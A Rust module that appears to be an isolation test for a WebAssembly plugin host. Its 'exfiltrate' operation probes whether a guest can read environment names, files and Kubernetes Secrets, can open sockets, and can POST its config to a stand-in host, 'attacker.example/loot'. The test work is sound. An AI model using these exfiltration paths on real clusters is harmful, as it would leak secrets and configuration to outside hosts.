//! `exfiltrate`: looks for what a guest must not have, or carries out what it has, `{do: exfiltrate, what: environment}`.
//!
//! | `what` | is |
//! |---|---|
//! | `environment` | environment variables and arguments |
//! | `files` | preopened directories, and well-known paths besides |
//! | `sockets` | TCP and UDP to `to`, names looked up |
//! | `wasi-http` | a request to `to` by `wasi:http`, past the host's signing |
//! | `secrets` | Secrets through `kubernetes` |
//! | `config` | the config, in a request to `to` |
//! | `locator` | `to` as the place of the cluster; in `in.cluster` only |
//!
//! `to` is a URL, by default one that no grant names. What came of it is a finding; the operation goes on.

mod files;
mod network;
#[cfg(target_arch = "wasm32")]
mod wasi_http;

use nic_sdk::cloud_http::{Request, send};
use nic_sdk::types::Locator;
use nic_sdk::{Error, kubernetes};
use serde::Deserialize;
use serde_json::json;

use super::{Place, finding};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
enum What {
    Environment,
    Files,
    Sockets,
    WasiHttp,
    Secrets,
    Config,
    Locator,
}

/// See the [module](self).
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Exfiltrate {
    what: What,
    #[serde(default = "attacker")]
    to: String,
}

fn attacker() -> String {
    "http://attacker.example:80/loot".to_owned()
}

impl Exfiltrate {
    /// Whether the config must be taken along into the documents, since changes are not given it.
    pub(crate) fn needs_config(&self) -> bool {
        self.what == What::Config
    }

    /// The cluster's place, if that is what is to be falsified.
    pub(crate) fn locator(&self) -> Option<Locator> {
        let request = json!({ "method": "GET", "url": self.to, "scheme": "none" });
        let locator = Locator::new("kubeconfig-from", json!({ "request": request }));
        (self.what == What::Locator).then_some(locator)
    }

    pub(super) async fn act(&self, place: &Place<'_>) -> String {
        match self.what {
            What::Environment => finding("exfiltrate environment", Ok(environment())),
            What::Files => finding("exfiltrate files", Ok(files::found())),
            What::Sockets => finding("exfiltrate sockets", Ok(network::tried(&self.to))),
            What::WasiHttp => finding("exfiltrate wasi-http", Ok(self.past_the_host())),
            What::Secrets => finding("exfiltrate secrets", secrets().await),
            What::Config => finding("exfiltrate config", self.carry_out(place).await),
            What::Locator => finding("exfiltrate locator", Ok(self.to.clone())),
        }
    }

    async fn carry_out(&self, place: &Place<'_>) -> Result<String, Error> {
        let answer = send(Request::new("POST", self.to.as_str()).json(place.config)).await?;
        Ok(format!("HTTP {} for {} bytes", answer.status, place.config.to_string().len()))
    }

    #[cfg(target_arch = "wasm32")]
    fn past_the_host(&self) -> String {
        wasi_http::tried(&self.to)
    }

    #[cfg(not(target_arch = "wasm32"))]
    #[expect(clippy::unused_self, reason = "only the component has it")]
    fn past_the_host(&self) -> String {
        "there is no wasi:http here".to_owned()
    }
}

/// Names only: should a test ever run this where there are values, they must not go to a log.
fn environment() -> String {
    let names: Vec<String> = std::env::vars_os().map(|(name, _)| name.to_string_lossy().into_owned()).collect();
    format!("{} variables {names:?}, {} arguments", names.len(), std::env::args_os().count())
}

async fn secrets() -> Result<String, Error> {
    let one = kubernetes::get("v1", "Secret", Some("kube-system"), "bootstrap-token").await;
    let all = kubernetes::list("v1", "Secret", None, "").await;
    match (one, all) {
        (Err(error), Err(_)) => Err(error),
        (one, all) => Ok(format!("one: {}, all: {}", one.is_ok(), all.map_or(0, |secrets| secrets.len()))),
    }
}
